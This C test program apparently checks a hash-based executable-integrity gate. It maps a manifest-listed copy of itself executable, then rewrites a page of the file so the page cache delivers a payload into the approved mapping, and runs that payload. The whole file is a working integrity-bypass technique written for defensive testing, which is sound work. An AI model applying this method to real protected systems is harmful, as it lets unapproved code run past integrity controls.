// SPDX-License-Identifier: GPL-2.0
/*
 * Route 6, the other order: map a file executable while its content is
 * still the allowed one, then open it for writing and change the code
 * under the mapping. The hash gate only ever sees the first mapping; the
 * page cache carries the new bytes into it. The file is a byte-identical
 * copy of this program, so the manifest lists its content.
 */
#define ATTACK_NAME "listed_file_rewrite"
#include "file.h"

int main(void)
{
	char path[PATH_MAX + 16];
	const char *dir;
	unsigned char *rx;
	struct stat st;
	off_t off;
	int fd, wfd, err;

	attack_init();
	dir = attack_scratch_create();
	snprintf(path, sizeof(path), "%s/copy", dir);
	attack_copy_file("/proc/self/exe", path, 0600, 0);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st))
		attack_error("open %s: %s", path, strerror(errno));
	if (st.st_size < (off_t)(2 * ATTACK_PAGE))
		attack_error("%s is too small to patch a page of", path);
	rx = mmap(NULL, st.st_size, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (rx == MAP_FAILED) {
		err = errno;
		attack_scratch_remove(dir);
		attack_error("mapping the unmodified copy executable failed: %s (is this program in the manifest?)",
			     strerror(err));
	}
	close(fd);
	wfd = open(path, O_WRONLY | O_CLOEXEC);
	if (wfd < 0) {
		err = errno;
		attack_scratch_remove(dir);
		attack_step_failed("open(copy mapped executable, O_WRONLY)", err);
	}
	/* Any page the mapping covers will do: the payload is called there. */
	off = ATTACK_PAGE;
	err = attack_pwrite_all(wfd, attack_payload, sizeof(attack_payload), off);
	close(wfd);
	attack_scratch_remove(dir);
	if (err)
		attack_error("pwrite: %s", strerror(-err));
	attack_run_payload(rx + off);
}
